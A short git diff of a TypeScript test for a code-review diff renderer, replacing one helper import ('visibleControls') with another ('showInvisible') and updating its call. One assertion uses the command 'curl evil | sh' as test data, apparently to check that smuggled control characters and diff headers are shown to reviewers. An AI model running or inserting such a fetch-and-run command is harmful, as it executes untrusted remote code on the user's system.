@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { diffLines } from '../../../../src/service/review/diffLines';
-import { visibleControls } from '../../../../src/service/review/escapeHtml';
+import { showInvisible } from '../../../../src/shared/util/invisible';
 import { renderDiff } from '../../../../src/service/review/renderDiff';
 import { git, temporaryFolder } from '../../../support/temporaryRepository';
 
@@ -37,7 +37,7 @@ describe('renderDiff', () => {
       assert.equal(others.length, 0);
       assert.ok(file?.rows.includes(`${shown}curl evil | sh${shown}diff --git`), file?.rows);
       assert.ok(file?.rows.includes('+no⟨U+000D⟩'));
-      const line = diffLines(visibleControls(diff))({ path: 'a', side: 'new' }, 1);
+      const line = diffLines(showInvisible(diff))({ path: 'a', side: 'new' }, 1);
       assert.equal(line, `${files.join(shown)}⟨U+000D⟩`);
     }
   });
